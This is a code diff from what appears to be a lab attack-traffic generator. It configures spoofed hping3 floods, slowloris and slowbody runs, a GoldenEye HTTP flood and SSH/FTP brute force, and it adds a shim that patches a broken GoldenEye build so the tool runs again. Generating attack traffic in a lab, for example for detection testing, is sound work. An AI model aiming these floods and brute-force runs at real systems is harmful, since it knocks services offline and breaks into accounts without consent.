@@ -50,7 +50,7 @@ const connRate = (rate: number): string => String(rate <= 0 ? 200 : Math.min(200
 
 const hping = (label: string, args: string[], spoofed = false): AttackStep => ({
   label, ipVersion: 4, spoofed, tools: ['hping3'],
-  argv: (tool, ctx) => [tool, ...args, ...(spoofed ? ['--rand-source'] : []), ...hpingRate(ctx.rate), V4],
+  argv: (tool, ctx) => [tool, '-q', ...args, ...(spoofed ? ['--rand-source'] : []), ...hpingRate(ctx.rate), V4],
 });
 /**
  * nping in IPv6 raw mode cannot pick a source address by itself, and once the source is given it must
@@ -71,10 +71,19 @@ const slowhttp = (label: 'slowloris' | 'slowbody', mode: string, six = false): A
   argv: (tool, ctx) => [tool, mode, '-c', '1000', '-r', connRate(ctx.rate), '-i', '5', '-x', '24', '-p', '3',
     '-l', String(Math.max(2, Math.ceil(ctx.seconds) + 5)), '-u', six ? `http://[${V6}]/` : `http://${V4}/`],
 });
+/**
+ * Debian 12's goldeneye (1.2.0+git20191230) crashes on Python 3.11: `random.randint(1, len(x)/2)` passes a
+ * float. Every worker dies and no request is sent. The real script is run unchanged, with randint made to
+ * accept integral floats first (workers are forked, so they inherit the patch).
+ */
+const GOLDENEYE_SHIM = "import random, runpy, sys; _r = random.randint; random.randint = lambda a, b: _r(int(a), int(b)); " +
+  "sys.argv = sys.argv[1:]; runpy.run_path(sys.argv[0], run_name='__main__')";
 const goldeneye: AttackStep = {
   label: 'httpdos', ipVersion: 4, tools: ['goldeneye'],
-  // Run by Debian's python3 (the script's env shebang could pick a pyenv shim). Few workers: GoldenEye forks one process per worker and the lab shares a small machine.
-  argv: (tool) => ['python3', which(tool) ?? tool, `http://${V4}/`, '-w', '2', '-s', '20', '-m', 'random'],
+  // Run by Debian's python3 (the script's env shebang could pick a pyenv shim). Few workers: GoldenEye
+  // forks one process per worker and the lab shares a small machine.
+  argv: (tool, ctx) => ['python3', '-c', GOLDENEYE_SHIM, which(tool) ?? tool, `http://${V4}/`,
+    '-w', ctx.rate > 0 && ctx.rate <= 100 ? '1' : '2', '-s', ctx.rate > 0 && ctx.rate <= 100 ? '5' : '20', '-m', 'random'],
 };
 const brute = (service: 'ssh' | 'ftp'): AttackStep => ({
   label: 'bruteforce', ipVersion: 4, tools: ['patator', 'hydra'],
